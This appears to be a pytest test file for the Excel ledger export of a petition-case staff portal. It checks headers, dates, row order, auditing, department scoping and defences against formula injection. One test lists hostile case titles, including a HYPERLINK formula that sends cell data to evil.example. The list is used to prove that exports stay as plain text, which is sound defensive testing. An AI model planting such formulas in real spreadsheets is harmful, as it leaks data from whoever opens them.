"""Excel export of a ledger: read back with openpyxl, the same rows as the page, audited, scoped."""

import datetime as dt
import re
from io import BytesIO
from urllib.parse import quote

from openpyxl import load_workbook

from portal.audit.models import AuditLog
from portal.cases.models import Status
from portal.extensions import db
from portal.localtime import today
from tests.factories import make_case

ROW_CODE = re.compile(r'<a class="mono" href="/staff/cases/\d+">(XF[0-9A-Z-]+)</a>')
HEADERS = [
    "编号",
    "标题",
    "责任单位",
    "包案领导",
    "阶段",
    "期限",
    "剩余天数",
    "清单进度",
    "收到日期",
    "渠道",
    "信访类型",
]


def days_ago(n: int) -> dt.date:
    return today() - dt.timedelta(days=n)


def download(client, url: str):
    response = client.get(url)
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return response, load_workbook(BytesIO(response.data))


def sheet_codes(ws) -> list[str]:
    return [row[0] for row in ws.iter_rows(min_row=2, values_only=True)]


def test_the_workbook_has_a_bold_frozen_filtered_chinese_header_and_real_dates(client, login, seed):
    seed(
        lambda w: [
            make_case(w, Status.IN_PROGRESS, on=days_ago(90), owner_leader=w.leader).id,
            make_case(w, Status.REPLIED, on=days_ago(120)).id,
        ]
    )
    login("clerk")

    _, wb = download(client, "/staff/ledgers/assigned/export.xlsx")

    ws = wb.worksheets[0]
    assert ws.title == "交办件台账"
    assert [c.value for c in ws[1]] == HEADERS
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:K3"
    assert ws.column_dimensions["B"].width > ws.column_dimensions["J"].width >= 6
    late = ws[2]  # the overdue case comes first
    for cell in (late[5], late[8]):  # 期限, 收到日期
        assert isinstance(cell.value, dt.datetime) and cell.is_date
        assert cell.number_format == "yyyy-mm-dd"
    assert late[8].value.date() == days_ago(90)
    assert isinstance(late[6].value, int) and late[6].value < 0 and late[6].font.color.rgb.endswith("B3261E")
    assert late[3].value == "王县长" and late[4].value == "办理中" and late[7].value == "0/8"
    assert ws[3][6].value == "信访人申请期"  # a passed review window is not a staff deadline
    notes = dict(wb["导出说明"].iter_rows(values_only=True))
    assert notes["台账"] == "交办件台账" and notes["导出条数"] == "2 条"


def test_the_file_name_is_the_ledger_and_the_date_in_rfc_5987_form(client, login, staff):
    login("clerk")

    response, _ = download(client, "/staff/ledgers/overdue/export.xlsx")

    disposition = response.headers["Content-Disposition"]
    name = f"超期台账-{today():%Y%m%d}.xlsx"
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote(name)}" in disposition
    assert f'filename="ledger-overdue-{today():%Y%m%d}.xlsx"' in disposition
    assert "no-store" in response.headers["Cache-Control"]


def test_the_export_holds_the_same_rows_in_the_same_order_as_the_page_for_the_same_filters(client, login, seed):
    seed(
        lambda w: [
            make_case(w, status, on=days_ago(n), commit=False).id
            for n, status in [
                (3, Status.ASSIGNED),
                (40, Status.IN_PROGRESS),
                (12, Status.ASSIGNED),
                (70, Status.IN_PROGRESS),
                (25, Status.REPLIED),
                (8, Status.ACCEPTED),
            ]
        ]
    )
    login("clerk")

    for query in ("", "?sort=-received", "?sort=due&status=in_progress", "?overdue=1", "?sort=code&q=电梯"):
        page = ROW_CODE.findall(client.get(f"/staff/ledgers/assigned{query}").get_data(as_text=True))
        _, wb = download(client, f"/staff/ledgers/assigned/export.xlsx{query}")
        assert sheet_codes(wb.worksheets[0]) == page, query
        assert page  # every query finds something: the comparison means something


def test_the_export_has_every_matching_row_not_just_the_page(client, login, seed):
    seed(lambda w: [make_case(w, Status.ASSIGNED, commit=False).id for _ in range(32)])
    login("clerk")

    _, wb = download(client, "/staff/ledgers/assigned/export.xlsx")

    assert len(sheet_codes(wb.worksheets[0])) == 32


def test_a_large_export_is_capped_with_a_note(client, login, seed, monkeypatch):
    monkeypatch.setattr("portal.ledgers.views.MAX_ROWS", 2)
    seed(lambda w: [make_case(w, Status.ASSIGNED, commit=False).id for _ in range(3)])
    login("clerk")

    _, wb = download(client, "/staff/ledgers/assigned/export.xlsx")

    assert len(sheet_codes(wb.worksheets[0])) == 2
    assert "共 3 条，仅导出前 2 条" in dict(wb["导出说明"].iter_rows(values_only=True))["导出条数"]


def test_an_export_is_audited_with_the_ledger_rows_and_filters(client, login, seed, app):
    seed(lambda w: [make_case(w, Status.ASSIGNED).id, make_case(w, Status.IN_PROGRESS).id])
    clerk = login("clerk")

    download(client, "/staff/ledgers/assigned/export.xlsx?status=in_progress&sort=-due")

    with app.app_context():
        row = db.session.execute(db.select(AuditLog).filter_by(action="ledger.export")).scalar_one()
        assert row.actor_id == clerk.id
        assert row.detail["ledger"] == "assigned" and row.detail["rows"] == 1
        assert "阶段：办理中" in row.detail["filters"] and "期限降序" in row.detail["filters"]


def test_a_handler_exports_only_his_departments_cases(client, login, seed):
    made = seed(
        lambda w: {
            "mine": make_case(w, Status.ASSIGNED).tracking_code,
            "theirs": make_case(w, Status.ASSIGNED, department=w.labour).tracking_code,
            "labour": w.labour.id,
        }
    )
    login("handler")

    for url in (
        "/staff/ledgers/assigned/export.xlsx",
        f"/staff/ledgers/assigned/export.xlsx?q={made['theirs']}",
        f"/staff/ledgers/assigned/export.xlsx?department={made['labour']}",
    ):
        _, wb = download(client, url)
        assert made["theirs"] not in sheet_codes(wb.worksheets[0]), url
    _, wb = download(client, "/staff/ledgers/assigned/export.xlsx")
    assert sheet_codes(wb.worksheets[0]) == [made["mine"]]


def test_each_page_links_to_the_export_with_its_query_string(client, login, seed):
    seed(lambda w: make_case(w, Status.ASSIGNED).id)
    login("clerk")

    html = client.get("/staff/ledgers/assigned?status=assigned&sort=-code&page=1").get_data(as_text=True)

    assert 'href="/staff/ledgers/assigned/export.xlsx?status=assigned&amp;sort=-code"' in html
    assert "导出Excel" in html


# --- what petitioners typed cannot arm or break the workbook -----------------------------------------------------
HOSTILE_TITLES = {
    "formula": '=HYPERLINK("http://evil.example/?d="&B2,"点我")',
    "plus": "+1+2 拖欠工资",
    "minus": "-3+4 拖欠工资",
    "at": "@SUM(1,2) 拖欠工资",
    "tab": "\t=1+1 拖欠工资",
    "cr": "\r=1+1 拖欠工资",
    "vertical tab": "拖欠\x0b工资",
    "controls": "拖欠\x01\x08\x0c\x1f工资\ufffe\uffff",  # no NUL: PostgreSQL cannot store one
}


def test_no_cell_of_an_export_is_a_formula_and_hostile_titles_come_back_as_typed(client, login, seed):
    codes = seed(
        lambda w: {
            key: make_case(w, Status.ASSIGNED, title=title, commit=False).tracking_code
            for key, title in HOSTILE_TITLES.items()
        }
    )
    login("clerk")

    # The search term is typed by staff and lands in the notes sheet: it must not arm that sheet either.
    for url in ("/staff/ledgers/assigned/export.xlsx", "/staff/ledgers/assigned/export.xlsx?q=%3D1%2B1"):
        _, wb = download(client, url)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    _, wb = download(client, "/staff/ledgers/assigned/export.xlsx")
    titles = {row[0].value: row[1] for row in wb.worksheets[0].iter_rows(min_row=2)}
    for key, title in HOSTILE_TITLES.items():
        cell = titles[codes[key]]
        assert cell.data_type == "s", key
        if key in ("vertical tab", "controls"):
            assert cell.value == "拖欠工资", key  # what XML cannot carry is dropped, the rest kept
        else:
            assert cell.value == title.strip(), key  # registration trims the title
            assert cell.quotePrefix, key  # stays text when someone edits the cell in Excel
